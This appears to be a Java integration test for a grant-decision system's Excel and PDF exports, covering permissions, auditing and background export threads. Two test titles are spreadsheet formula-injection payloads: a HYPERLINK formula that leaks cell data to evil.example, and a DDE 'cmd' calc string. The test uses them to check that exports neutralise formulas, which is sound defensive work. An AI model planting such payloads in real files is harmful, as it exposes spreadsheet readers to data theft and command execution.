package org.lixiang.decision;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.math.BigDecimal;
import java.time.Duration;
import java.util.EnumSet;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.lixiang.IntegrationTest;
import org.lixiang.TestAccounts;
import org.lixiang.TestClock;
import org.lixiang.base.CurrentUser;
import org.lixiang.base.InvalidInputException;
import org.lixiang.base.Messages;
import org.lixiang.base.NotAllowedException;
import org.lixiang.base.ResearchField;
import org.lixiang.base.audit.AuditEntry;
import org.lixiang.base.audit.AuditLog;
import org.lixiang.call.AggregationRule;
import org.lixiang.call.CallCriterion;
import org.lixiang.call.CallDraft;
import org.lixiang.call.CallService;
import org.lixiang.call.Programme;
import org.lixiang.export.ExportFile;
import org.lixiang.export.ExportFiles;
import org.lixiang.export.ExportProgress;
import org.lixiang.export.ExportRunner;
import org.lixiang.proposal.FormalDecision;
import org.lixiang.proposal.FormalReviewService;
import org.lixiang.proposal.ProposalDetails;
import org.lixiang.proposal.ProposalFixtures;
import org.lixiang.proposal.ProposalService;
import org.lixiang.proposal.ProposalSubmission;
import org.lixiang.review.AssignmentService;
import org.lixiang.review.Recommendation;
import org.lixiang.review.ReviewFixtures;
import org.lixiang.review.ReviewService;
import org.lixiang.review.ScoreSheet;
import org.lixiang.workflow.TaskInbox;
import org.lixiang.workflow.TaskSummary;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.annotation.Import;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.authentication.AuthenticationCredentialsNotFoundException;

/**
 * The decision exports opened as their readers would: the workbooks with POI (content, the
 * formula-injection title as a plain string, no formula anywhere), the public list's PDF text
 * with Chinese; who may export what; the audit entries; the export running on another thread
 * as the same user.
 */
@IntegrationTest
@Import({ProposalFixtures.class, ReviewFixtures.class, DecidedProposalFixtures.class, PublicListFixtures.class})
class DecisionExportsTest {

    static final String INJECTION = "=HYPERLINK(\"http://evil.example/steal?x=\"&A1,\"点击查看详情\")";

    @Autowired ReviewFixtures reviewFixtures;
    @Autowired CallService calls;
    @Autowired ProposalService proposals;
    @Autowired ProposalSubmission submission;
    @Autowired FormalReviewService formal;
    @Autowired AssignmentService assignments;
    @Autowired ReviewService reviews;
    @Autowired DepartmentOpinionService opinions;
    @Autowired FundingPlanService plans;
    @Autowired DecisionExports exports;
    @Autowired ExportRunner runner;
    @Autowired AuditLog audit;
    @Autowired TaskInbox inbox;
    @Autowired TestAccounts accounts;
    @Autowired DecidedProposalFixtures decided;
    @Autowired TestClock clock;
    @Autowired JdbcTemplate jdbc;
    @Autowired PublicListFixtures publicLists;

    @AfterEach
    void reset() {
        accounts.logout();
        clock.reset();
    }

    @Test
    void theProposalsWorkbookListsEveryProposalWithScoresAndRankAndKeepsAFormulaLikeTitleAsText() throws Exception {
        long callId = call(new BigDecimal("450000"));
        long low = decided(callId, INJECTION, 22, 22, 30, "250000");               // 74
        long high = decided(callId, "预应力碳纤维在桥梁受弯构件加固中的应用研究", 27, 27, 36, "280000"); // 90
        long waiting = submitted(callId, "@SUM(1+1)*cmd|' /C calc'!A0");

        accounts.as("t_officer");
        ExportFile zh = exports.proposals(callId, Locale.SIMPLIFIED_CHINESE).write(ExportProgress.NONE);
        try (Workbook book = ExportFiles.workbook(zh)) {
            ExportFiles.assertNoFormula(book);
            Sheet sheet = book.getSheet("申报项目");
            assertThat(sheet).isNotNull();
            Row header = ExportFiles.rowWith(sheet, "项目名称");
            assertThat(ExportFiles.rows(sheet).get(header.getRowNum())).startsWith("评分排名", "项目编号", "项目名称",
                    "承担单位", "申报人", "领域", "状态");
            Row first = sheet.getRow(header.getRowNum() + 1);
            assertThat(first.getCell(2).getStringCellValue()).isEqualTo("预应力碳纤维在桥梁受弯构件加固中的应用研究");
            assertThat(first.getCell(0).getNumericCellValue()).isEqualTo(1);
            assertThat(first.getCell(3).getStringCellValue()).isEqualTo("测试申报单位甲");
            assertThat(first.getCell(10).getNumericCellValue()).isEqualTo(90.0);
            assertThat(first.getCell(8).getNumericCellValue()).as("requested").isEqualTo(300000.5);

            Cell injected = ExportFiles.rowWith(sheet, INJECTION).getCell(2);
            assertThat(injected.getCellType()).isEqualTo(CellType.STRING);
            assertThat(injected.getStringCellValue()).isEqualTo(INJECTION);
            assertThat(injected.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(injected.getRow().getCell(0).getNumericCellValue()).isEqualTo(2);

            Row unscored = ExportFiles.rowWith(sheet, "@SUM(1+1)*cmd|' /C calc'!A0");
            assertThat(unscored.getCell(0)).as("no rank without a score").isNull();
            assertThat(unscored.getCell(6).getStringCellValue()).isEqualTo("已提交");
            assertThat(unscored.getCell(2).getCellType()).isEqualTo(CellType.STRING);
        }
        ExportFile en = exports.proposals(callId, Locale.ENGLISH).write(ExportProgress.NONE);
        try (Workbook book = ExportFiles.workbook(en)) {
            assertThat(ExportFiles.rows(book.getSheet("Proposals"))).anySatisfy(r -> assertThat(r)
                    .startsWith("Rank by score", "Number", "Title", "Organization"));
        }
        assertThat(zh.fileName()).startsWith("申报项目_决策导出测试指南");
        assertThat(audit.forObject("call", callId)).filteredOn(e -> e.getAction().equals("EXPORT_PROPOSALS"))
                .hasSize(2).allSatisfy(e -> assertThat(e.getActorName()).isEqualTo("t_officer"));
        assertThat(List.of(low, high, waiting)).doesNotHaveDuplicates();
    }

    @Test
    void theFundingPlanWorkbookShowsTheLineAndTheTotalsAgainstTheEnvelope() throws Exception {
        long callId = call(new BigDecimal("450000"));
        decided(callId, "沥青热再生技术推广应用", 22, 22, 30, "250000");                    // 74
        decided(callId, "高精度汽车热交换零部件工艺研究", 27, 27, 36, "280000");          // 90
        accounts.as("t_officer");
        assertThatThrownBy(() -> exports.fundingPlan(callId, Locale.SIMPLIFIED_CHINESE))
                .isInstanceOfSatisfying(InvalidInputException.class,
                        e -> assertThat(e.problems().get(0).messageKey()).isEqualTo("export.noPlan"));
        plans.openRound(callId, false);

        accounts.as("t_leader");
        ExportFile file = exports.fundingPlan(callId, Locale.SIMPLIFIED_CHINESE).write(ExportProgress.NONE);
        try (Workbook book = ExportFiles.workbook(file)) {
            ExportFiles.assertNoFormula(book);
            Sheet sheet = book.getSheet("安排方案");
            List<List<String>> rows = ExportFiles.rows(sheet);
            assertThat(rows.get(0).get(0)).contains("项目安排方案");
            Row header = ExportFiles.rowWith(sheet, "资助线");
            assertThat(rows.get(header.getRowNum())).containsExactly("排名", "项目编号", "项目名称", "承担单位", "专家评分",
                    "申请经费（元）", "专家建议经费（元）", "拟资助金额（元）", "资助线");
            // first line: 280000 fits the 450000 envelope, the next 250000 does not
            assertThat(rows.get(header.getRowNum() + 1)).containsExactly("1", number("高精度汽车热交换零部件工艺研究"),
                    "高精度汽车热交换零部件工艺研究", "测试申报单位甲", "90", "300000.5", "280000", "280000", "资助线以上");
            assertThat(rows.get(header.getRowNum() + 2)).containsExactly("2", number("沥青热再生技术推广应用"),
                    "沥青热再生技术推广应用", "测试申报单位甲", "74", "300000.5", "250000", "", "资助线以下");
            assertThat(rows.get(ExportFiles.rowWith(sheet, "合计：2 项中拟资助 1 项").getRowNum()))
                    .containsExactly("", "", "合计：2 项中拟资助 1 项", "", "", "600001", "530000", "280000");
            assertThat(rows.get(ExportFiles.rowWith(sheet, "资金总额").getRowNum())).last().isEqualTo("450000");
            assertThat(rows.get(ExportFiles.rowWith(sheet, "剩余额度").getRowNum())).last().isEqualTo("170000");
        }
        assertThat(audit.forObject("call", callId)).extracting(AuditEntry::getAction).contains("EXPORT_FUNDING_PLAN");
    }

    @Test
    void onlyTheBureauExportsCallDataAndAnyoneLoggedInThePublicList() {
        long callId = call(new BigDecimal("1000000"));
        long listed = decided(callId, "根茎类蔬菜标准化生产及加工关键技术集成与示范", 25, 25, 34, "250000");
        accounts.as("t_officer");
        long planId = plans.openRound(callId, false);
        for (String user : List.of("t_applicant", "t_expert")) {
            accounts.as(user);
            assertThatThrownBy(() -> exports.proposals(callId, Locale.ENGLISH)).isInstanceOf(NotAllowedException.class);
            assertThatThrownBy(() -> exports.fundingPlan(callId, Locale.ENGLISH)).isInstanceOf(NotAllowedException.class);
        }
        accounts.as("t_admin");
        exports.proposals(callId, Locale.ENGLISH);

        accounts.as("t_officer");
        plans.submit(task("CALL-" + callId, "prepareFundingPlan"), plans.plan(planId).version());
        accounts.as("t_leader");
        plans.approve(task("CALL-" + callId, "approveFundingPlan"), true, "同意。");

        accounts.as("t_applicant2");
        String text = ExportFiles.pdfText(write(exports.publicList(null, Locale.SIMPLIFIED_CHINESE)));
        String callName = jdbc.queryForObject("select name from call_for_proposals where id = ?", String.class, callId);
        // a long title wraps in its cell: compare without the line breaks
        assertThat(text.replaceAll("\\s+", "")).contains("根茎类蔬菜标准化生产及加工关键技术集成与示范");
        assertThat(text).contains("科技计划项目立项公示名单", callName, "测试申报单位甲", "250,000.00", number("根茎类蔬菜标准化生产及加工关键技术集成与示范"), "公示期");
        // a public document: no score, no expert, no comment
        assertThat(text).doesNotContain("评审专家", "研究方案可行", "专家评分");
        accounts.as("t_officer"); // the trail is the bureau's to read
        assertThat(audit.latest("EXPORT_PUBLIC_LIST", 1)).singleElement()
                .satisfies(e -> assertThat(e.getActorName()).isEqualTo("t_applicant2"));
        accounts.as("t_applicant2");
        String english = ExportFiles.pdfText(write(exports.publicList(null, Locale.ENGLISH)));
        assertThat(english).contains("Public list of projects to be funded", "Publicity period");

        accounts.logout();
        assertThatThrownBy(() -> exports.publicList(null, Locale.ENGLISH))
                .isInstanceOf(AuthenticationCredentialsNotFoundException.class);
        assertThat(listed).isPositive();
    }

    @Test
    void thePublicListPdfIsOneCallsListWhenThePageIsFilteredToIt() {
        PublicListFixtures.Seeded running = publicLists.seed(PlanStatus.PUBLICITY, clock.instant().minus(Duration.ofDays(1)), 3, 1, 0);
        PublicListFixtures.Seeded finished = publicLists.seed(PlanStatus.FINAL, clock.instant().minus(Duration.ofDays(30)), 2, 0, 0);
        try {
            accounts.as("t_applicant2");
            String one = ExportFiles.pdfText(write(exports.publicList(running.callId(), Locale.SIMPLIFIED_CHINESE)));
            assertThat(one).contains(running.callName(), running.listedNumbers().get(0), running.listedNumbers().get(2),
                    "合计：3 项").doesNotContain(finished.callName(), finished.listedNumbers().get(0),
                    running.otherNumbers().get(0));
            String all = ExportFiles.pdfText(write(exports.publicList(null, Locale.SIMPLIFIED_CHINESE)));
            assertThat(all).contains(running.callName(), finished.callName(), finished.listedNumbers().get(1));
            accounts.as("t_officer");
            assertThat(audit.forObject("call", running.callId())).extracting(AuditEntry::getAction)
                    .containsExactly("EXPORT_PUBLIC_LIST");
        } finally {
            publicLists.remove(running);
            publicLists.remove(finished);
        }
    }

    @Test
    void anExportRunsOnAnotherThreadAsTheUserWhoAskedAndLeavesNoIdentityBehind() throws Exception {
        long callId = call(new BigDecimal("1000000"));
        decided(callId, "基于多种无线传输技术的机电设备监控系统构建方案研究", 25, 25, 34, "250000");
        accounts.as("t_officer");
        AtomicLong reported = new AtomicLong();
        String[] worker = new String[1];
        ExportFile file = runner.start(progress -> {
            worker[0] = Thread.currentThread().getName() + ":" + CurrentUser.require().getUsername();
            return exports.proposals(callId, Locale.SIMPLIFIED_CHINESE).write(progress);
        }, (done, total) -> reported.set(done * 1000 + total)).get(30, TimeUnit.SECONDS);
        assertThat(worker[0]).startsWith("export-").endsWith(":t_officer");
        assertThat(reported.get()).isEqualTo(1001);
        try (Workbook book = ExportFiles.workbook(file)) {
            ExportFiles.rowWith(book.getSheetAt(0), "基于多种无线传输技术的机电设备监控系统构建方案研究");
        }
        // the workers are pooled: the next job, asked for by nobody, runs as nobody
        accounts.logout();
        for (int i = 0; i < 4; i++) {
            assertThat(runner.start(progress -> {
                assertThat(CurrentUser.get()).isEmpty();
                return null;
            }, ExportProgress.NONE).get(30, TimeUnit.SECONDS)).isNull();
        }
        // and a job started by an applicant is refused inside the worker
        accounts.as("t_applicant");
        assertThatThrownBy(() -> runner.start(progress -> exports.proposals(callId, Messages.CHINESE).write(progress),
                ExportProgress.NONE).get(30, TimeUnit.SECONDS)).hasCauseInstanceOf(NotAllowedException.class);
    }

    private ExportFile write(org.lixiang.export.ExportJob job) {
        try {
            return job.write(ExportProgress.NONE);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    long call(BigDecimal envelope) {
        accounts.as("t_officer");
        long id = calls.create(new CallDraft("决策导出测试指南 " + System.nanoTime(), 2026, Programme.KEY_RD,
                EnumSet.of(ResearchField.EQUIPMENT), "测试。", clock.instant().minus(Duration.ofDays(1)),
                clock.instant().plus(Duration.ofDays(30)), new BigDecimal("400000"), envelope, null, null,
                CallCriterion.defaults(), 3, AggregationRule.MEAN, 7, 14, false, new BigDecimal("20")));
        calls.publish(id);
        return id;
    }

    long submitted(long callId, String title) {
        accounts.as("t_applicant");
        long id = proposals.createDraft(callId);
        proposals.saveDraft(id, proposals.details(id).version(), ProposalFixtures.complete(title));
        ProposalDetails d = proposals.details(id);
        submission.submit(id, d.version(), d.content());
        return id;
    }

    long decided(long callId, String title, int a, int b, int c, String recommended) {
        return decided.decided(callId, title, a, b, c, recommended);
    }

    String number(String title) {
        return jdbc.queryForObject("select number from proposal where title = ? order by id desc fetch first 1 rows only",
                String.class, title);
    }

    String task(String businessKey, String step) {
        return inbox.page(0, 1000).stream().filter(t -> businessKey.equals(t.businessKey()) && step.equals(t.stepKey()))
                .map(TaskSummary::id).findFirst().orElse(null);
    }
}
